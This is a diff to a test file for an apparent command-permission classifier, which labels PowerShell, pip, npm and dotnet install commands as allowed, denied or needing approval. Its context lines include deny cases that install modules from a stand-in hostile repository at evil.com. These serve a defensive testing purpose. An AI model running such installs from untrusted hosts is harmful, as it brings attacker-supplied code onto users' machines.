@@ -55,7 +55,14 @@ describe('PowerShellGet, PSResourceGet and PackageManagement reach the PowerShel
     ['Install-Module @params', 'ask'],
     ['Install-Module Pester -Repository https://evil.com/api/v2', 'deny'],
     ['Install-Package x -Source https://evil.com/v3', 'deny'],
+    // (Without -Repository the Gallery is assumed, as pip, npm and NuGet are taken to reach their
+    // default registry whatever pip.conf, .npmrc or NuGet.config say.)
     ['Install-Module Pester', 'allow'],
+    ['Install-PSResource Pester', 'allow'],
+    ['Save-Module Pester -Path .', 'allow'],
+    ['pip install x', 'allow'],
+    ['npm install x', 'allow'],
+    ['dotnet restore', 'allow'],
     ['Install-Module Pester -Repository PSGallery', 'allow'],
     ['Install-Package x -Source C:\\pkgs', 'allow'],
   ], 'pwsh', REPO_WINDOWS);
